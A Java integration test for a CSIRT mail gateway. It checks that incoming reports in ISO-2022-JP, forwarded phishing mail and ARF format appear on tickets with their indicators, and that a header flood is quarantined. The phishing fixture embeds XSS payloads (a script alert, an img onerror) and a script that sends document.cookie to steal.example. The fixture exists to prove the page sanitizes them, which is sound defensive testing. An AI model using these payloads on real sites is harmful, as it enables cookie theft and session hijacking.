package org.csirtgateway.ui;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.ServerSetup;
import com.icegreen.greenmail.util.ServerSetupTest;
import org.csirtgateway.Gateway;
import org.csirtgateway.testing.Eventually;
import org.csirtgateway.testing.Mails;
import org.csirtgateway.testing.TestGatewayConfig;
import org.csirtgateway.ui.auth.Role;
import org.csirtgateway.ui.auth.Sessions;
import org.csirtgateway.ui.auth.UserAccounts;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Reports as they really arrive: raw bytes over SMTP to GreenMail, fetched over IMAP by a real gateway, and read back
 * from the JSON API and the ticket page of a real admin server. A Japanese ISO-2022-JP report, a forwarded phishing
 * mail (with hostile HTML and an attachment) and an ARF feedback report each appear on their ticket with their text,
 * nested evidence, structured fields and indicators.
 */
class ReportReadingIT {

    private static final Duration WAIT = Duration.ofSeconds(30);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Charset JIS = Charset.forName("ISO-2022-JP");

    @RegisterExtension
    static final GreenMailExtension MAIL = new GreenMailExtension(ServerSetup.dynamicPort(ServerSetupTest.SMTP_IMAP));

    @TempDir
    Path dataDir;

    private Gateway gateway;
    private AdminServer admin;
    private String token;

    @BeforeEach
    void start() {
        gateway = new Gateway(TestGatewayConfig.create(MAIL, dataDir), Clock.systemUTC());
        UserAccounts accounts = new UserAccounts(gateway.database(), Clock.systemUTC());
        accounts.addUser(TestServer.USER, TestServer.PASSWORD.toCharArray(), Role.ANALYST);
        token = accounts.createApiToken(TestServer.USER, "it");
        admin = new AdminServer(new AdminSettings("127.0.0.1", 0, false, "Example CSIRT"),
                AdminServices.of(gateway.database(), gateway.tickets(), accounts,
                        new Sessions(gateway.database(), Clock.systemUTC()), gateway::health,
                        gateway.ticketCommands()));
        admin.start();
        gateway.start();
    }

    @AfterEach
    void stop() {
        admin.stop();
        gateway.close();
    }

    @Test
    void japaneseIso2022jpReportAppearsAsReadableJapaneseWithItsIndicators() throws Exception {
        byte[] mail = bytes(
                "From: =?ISO-2022-JP?B?GyRCOzNFRBsoQg==?= <yamada@example.jp>\r\n",
                "To: " + TestGatewayConfig.TEAM_ADDRESS + "\r\n",
                "Subject: =?ISO-2022-JP?B?" + java.util.Base64.getEncoder().encodeToString(
                        "フィッシングサイトの報告".getBytes(JIS)) + "?=\r\n",
                "Message-ID: <jp-phish@example.jp>\r\n",
                "MIME-Version: 1.0\r\n",
                "Content-Type: text/plain; charset=ISO-2022-JP\r\n",
                "Content-Transfer-Encoding: 7bit\r\n\r\n",
                "いつもお世話になっております。\r\n偽のログインページ hxxps://login-bank[.]example[.]jp/ が"
                        .getBytes(JIS),
                "\r\n".getBytes(JIS),
                "203.0.113.45 から配信されています。\r\n".getBytes(JIS));
        Mails.sendRaw(MAIL.getSmtp().getPort(), "yamada@example.jp", TestGatewayConfig.TEAM_ADDRESS, mail);

        JsonNode message = firstMessageOf(ticketFound("フィッシング"));
        assertThat(message.get("subject").asText()).isEqualTo("フィッシングサイトの報告");
        assertThat(message.get("fromName").asText()).isEqualTo("山田");
        assertThat(message.get("body").asText()).contains("いつもお世話になっております。", "偽のログインページ");
        assertThat(indicators(message)).contains("url https://login-bank.example.jp/ body",
                "domain login-bank.example.jp body", "ipv4 203.0.113.45 body");
    }

    @Test
    void forwardedPhishingMailIsNestedEvidenceWithItsOwnHeadersAndIndicatorsAndHostileHtmlStaysText()
            throws Exception {
        String phish = """
                Received: from mta.bank-secure.example.com (mta.bank-secure.example.com [198.51.100.66])\r
                 by mx.victim.example with ESMTP id 1\r
                From: "Bank Security" <alert@bank-secure.example.com>\r
                To: alice@victim.example\r
                Subject: Your account is locked\r
                Date: Mon, 2 Mar 2026 08:00:00 +0000\r
                Message-ID: <lock-1@bank-secure.example.com>\r
                MIME-Version: 1.0\r
                Content-Type: multipart/mixed; boundary=inner\r
                \r
                --inner\r
                Content-Type: text/html; charset=utf-8\r
                \r
                <html><body><script>alert('pwned')</script><p>Unlock at <a href="http://unlock.bank-secure.example.com/x">our site</a></p><img src=x onerror=alert(2)></body></html>\r
                --inner\r
                Content-Type: text/html; name="unlock.html"\r
                Content-Disposition: attachment; filename="unlock.html"\r
                \r
                <script>document.location='http://steal.example/'+document.cookie</script>\r
                --inner--\r
                """;
        String mail = """
                From: alice@victim.example\r
                To: %s\r
                Subject: Fwd: Your account is locked\r
                Message-ID: <fwd-1@victim.example>\r
                MIME-Version: 1.0\r
                Content-Type: multipart/mixed; boundary=outer\r
                \r
                --outer\r
                Content-Type: text/plain; charset=utf-8\r
                \r
                Please look at this phishing mail <b>now</b>.\r
                --outer\r
                Content-Type: message/rfc822\r
                \r
                %s\r
                --outer--\r
                """.formatted(TestGatewayConfig.TEAM_ADDRESS, phish);
        Mails.sendRaw(MAIL.getSmtp().getPort(), "alice@victim.example", TestGatewayConfig.TEAM_ADDRESS,
                mail.getBytes(StandardCharsets.UTF_8));

        JsonNode ticket = ticketFound("unlock");
        JsonNode message = firstMessageOf(ticket);
        assertThat(message.get("body").asText()).isEqualTo("Please look at this phishing mail <b>now</b>.");
        JsonNode evidence = message.get("evidence").get(0);
        assertThat(evidence.get("subject").asText()).isEqualTo("Your account is locked");
        assertThat(evidence.get("from").asText()).isEqualTo("Bank Security <alert@bank-secure.example.com>");
        assertThat(evidence.get("messageId").asText()).isEqualTo("lock-1@bank-secure.example.com");
        assertThat(evidence.get("received").get(0).asText()).contains("198.51.100.66");
        assertThat(evidence.get("body").asText()).contains("Unlock at our site <http://unlock.bank-secure.example.com/x>")
                .doesNotContain("alert(");
        JsonNode attachment = evidence.get("attachments").get(0);
        assertThat(attachment.get("filename").asText()).isEqualTo("unlock.html");
        assertThat(indicators(message)).contains("url http://unlock.bank-secure.example.com/x evidence 1",
                "ipv4 198.51.100.66 evidence 1 headers", "email alert@bank-secure.example.com evidence 1 headers",
                "domain unlock.bank-secure.example.com evidence 1");

        Browser browser = new Browser(admin.url()).signedIn();
        HttpResponse<String> page = browser.get("/tickets/" + URLEncoder.encode(ticket.get("id").asText(),
                StandardCharsets.UTF_8));
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.body()).contains("Your account is locked", "Received chain", "&lt;b&gt;now&lt;/b&gt;")
                .doesNotContain("<b>now</b>").doesNotContain("<script>").doesNotContain("onerror");

        HttpResponse<String> download = browser.get(attachment.get("download").asText());
        assertThat(download.statusCode()).isEqualTo(200);
        assertThat(download.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
        assertThat(download.headers().firstValue("Content-Disposition")).hasValueSatisfying(
                value -> assertThat(value).startsWith("attachment; filename=\"unlock.html\""));
        assertThat(download.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    }

    @Test
    void arfFeedbackReportShowsItsStructuredFieldsAndIsFoundByThem() throws Exception {
        String mail = """
                From: feedback@isp.example\r
                To: %s\r
                Subject: FW: Earn money\r
                Message-ID: <arf-1@isp.example>\r
                MIME-Version: 1.0\r
                Content-Type: multipart/report; report-type=feedback-report; boundary="arf"\r
                \r
                --arf\r
                Content-Type: text/plain\r
                \r
                This is an email abuse report for a message received from 192.0.2.2.\r
                --arf\r
                Content-Type: message/feedback-report\r
                \r
                Feedback-Type: abuse\r
                User-Agent: SomeGenerator/1.0\r
                Version: 1\r
                Original-Mail-From: <somespammer@spam.example>\r
                Arrival-Date: Thu, 8 Mar 2026 14:00:00 EDT\r
                Source-IP: 192.0.2.2\r
                Reported-Domain: spam.example\r
                Reported-URI: http://spam.example/earn_money.html\r
                --arf\r
                Content-Type: message/rfc822\r
                \r
                Received: from mailserver.spam.example (mailserver.spam.example [192.0.2.2])\r
                From: <somespammer@spam.example>\r
                Subject: Earn money\r
                Message-ID: <spam-1@spam.example>\r
                \r
                Spam Spam Spam\r
                --arf--\r
                """.formatted(TestGatewayConfig.TEAM_ADDRESS);
        Mails.sendRaw(MAIL.getSmtp().getPort(), "feedback@isp.example", TestGatewayConfig.TEAM_ADDRESS,
                mail.getBytes(StandardCharsets.US_ASCII));

        JsonNode ticket = ticketFound("feedback type abuse");
        JsonNode message = firstMessageOf(ticket);
        List<String> fields = new ArrayList<>();
        message.get("reportFields").forEach(f -> fields.add(f.get("format").asText() + " " + f.get("name").asText()
                + "=" + f.get("value").asText()));
        assertThat(fields).contains("ARF Feedback-Type=abuse", "ARF Source-IP=192.0.2.2",
                "ARF Reported-Domain=spam.example", "ARF Arrival-Date=Thu, 8 Mar 2026 14:00:00 EDT");
        assertThat(message.get("evidence").get(0).get("subject").asText()).isEqualTo("Earn money");
        assertThat(indicators(message)).contains("ipv4 192.0.2.2 report fields",
                "url http://spam.example/earn_money.html report fields");
        assertThat(search("192.0.2.2").get("tickets").get(0).get("id").asText()).isEqualTo(ticket.get("id").asText());
    }

    @Test
    void messageOverAHardLimitIsQuarantinedWithAReasonNamingTheLimit() {
        StringBuilder mail = new StringBuilder("From: flood@attacker.example\r\nTo: " + TestGatewayConfig.TEAM_ADDRESS
                + "\r\nSubject: header flood\r\n");
        for (int i = 0; i < 1_100; i++) {
            mail.append("X-Flood-").append(i).append(": x\r\n");
        }
        mail.append("\r\nbody\r\n");
        Mails.sendRaw(MAIL.getSmtp().getPort(), "flood@attacker.example", TestGatewayConfig.TEAM_ADDRESS,
                mail.toString().getBytes(StandardCharsets.US_ASCII));

        String reason = Eventually.await("the flood quarantined", WAIT, () -> gateway.database().read(connection ->
                org.csirtgateway.store.Sql.one(connection,
                        "SELECT failure FROM raw_messages WHERE state = 'quarantined'", row -> row.getString(1))
                        .orElse(null)));
        assertThat(reason).contains("'header count' (1000, preset default)");
        assertThat(gateway.health().quarantined()).isEqualTo(1);
    }

    private JsonNode ticketFound(String query) {
        String id = Eventually.await("a ticket found by '" + query + "'", WAIT, () -> {
            JsonNode found = search(query);
            return found.get("total").asLong() > 0 ? found.get("tickets").get(0).get("id").asText() : null;
        });
        return api("/api/tickets/" + URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20"));
    }

    private JsonNode search(String query) {
        return api("/api/tickets?q=" + URLEncoder.encode(query, StandardCharsets.UTF_8));
    }

    private static JsonNode firstMessageOf(JsonNode ticket) {
        return ticket.get("messages").get(0);
    }

    private static List<String> indicators(JsonNode message) {
        List<String> result = new ArrayList<>();
        message.get("indicators").forEach(i -> result.add(i.get("type").asText() + " " + i.get("value").asText()
                + " " + i.get("source").asText()));
        return result;
    }

    private JsonNode api(String path) {
        HttpResponse<String> response = new Browser(admin.url()).get(path, "Authorization", "Bearer " + token);
        assertThat(response.statusCode()).as(path).isEqualTo(200);
        try {
            return JSON.readTree(response.body());
        } catch (java.io.IOException e) {
            throw new AssertionError("not JSON: " + path, e);
        }
    }

    private static byte[] bytes(Object... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Object part : parts) {
            out.writeBytes(part instanceof byte[] b ? b : part.toString().getBytes(StandardCharsets.US_ASCII));
        }
        return out.toByteArray();
    }
}
